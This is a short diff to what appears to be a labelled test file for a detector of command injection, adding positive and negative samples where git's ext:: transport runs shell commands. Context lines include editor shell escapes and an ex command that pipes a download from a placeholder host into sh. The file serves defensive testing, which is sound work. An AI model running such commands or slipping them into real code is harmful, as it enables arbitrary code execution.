@@ -323,3 +323,15 @@ subprocess.run(["ed", "-s", "f.txt"], input="!id\nq\n", text=True)
 import subprocess
 subprocess.run(["ex", "-s", "f"], input="r !curl -s https://x.example/ | sh\nx\n", text=True)
 subprocess.run(["vim", "-es", "f"], input=":call system('id')\n:wq\n", text=True)
+#@ pos a git remote of the ext:: transport
+import subprocess
+subprocess.run(["git", "clone", "ext::sh -c id", "dst"])
+#@ pos an ext:: address joined
+import subprocess
+kind = "ext"
+subprocess.run(["git", "remote", "add", "x", kind + "::" + "bash -c id"])
+#@ neg an https remote named
+remote = "https://example.org/r.git"
+print("mirror of", remote)
+#@ neg a text naming the transport
+print("see git's ext:: transport in the manual")
